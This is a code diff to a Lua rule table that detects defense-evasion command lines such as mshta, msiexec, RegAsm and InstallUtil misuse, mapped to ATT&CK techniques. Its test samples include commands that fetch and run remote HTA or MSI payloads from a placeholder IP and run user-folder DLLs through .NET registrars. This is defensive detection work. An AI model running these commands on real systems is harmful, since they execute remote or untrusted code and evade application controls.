@@ -23,6 +23,7 @@ end
 
 local function script_text(each)
     return each.folded:match "javascript:" or each.folded:match "vbscript:"
+        or (each.folded:find("about:", 1, true) and each.folded:find "<script" and "a script in its command line")
 end
 
 local function user_file_or_url(each, case)
@@ -104,12 +105,17 @@ local ROWS = {
       target = function(each, case) return script_text(each) or user_file_or_url(each, case) end,
       what = "has mshta run",
       match = "mshta http://203.0.113.5/a.hta",
+      other = [[mshta "about:<hta:application><script>eval(x)</script>"]],
       no_match = [[mshta "C:\Program Files\Tool\about.hta"]] },
     { id = "defense-evasion.msiexec", programs = { "msiexec" }, attack = "T1218.007", target = msiexec_target,
       what = "has msiexec quietly install", is_administration = true,
       match = "msiexec /q /i http://203.0.113.5/a.msi",
       no_match = [[msiexec /i "C:\Users\x\Downloads\viewer.msi"]] },
-    { id = "defense-evasion.installutil", programs = { "installutil", "regasm", "regsvcs" }, attack = "T1218.004",
+    { id = "defense-evasion.regasm", programs = { "regasm", "regsvcs" }, attack = "T1218.009",
+      target = user_file, what = "has a .NET registrar run",
+      match = [[C:\Windows\Microsoft.NET\Framework\v4.0.30319\RegAsm.exe /U C:\Users\x\AppData\a.dll]],
+      no_match = [[RegAsm.exe "C:\Program Files\Service\classes.dll" /codebase]] },
+    { id = "defense-evasion.installutil", programs = { "installutil" }, attack = "T1218.004",
       target = user_file, what = "has a .NET installer run",
       match = [[C:\Windows\Microsoft.NET\Framework\v4.0.30319\InstallUtil.exe /U C:\Users\x\AppData\a.dll]],
       no_match = [[InstallUtil.exe "C:\Program Files\Service\service.exe"]] },
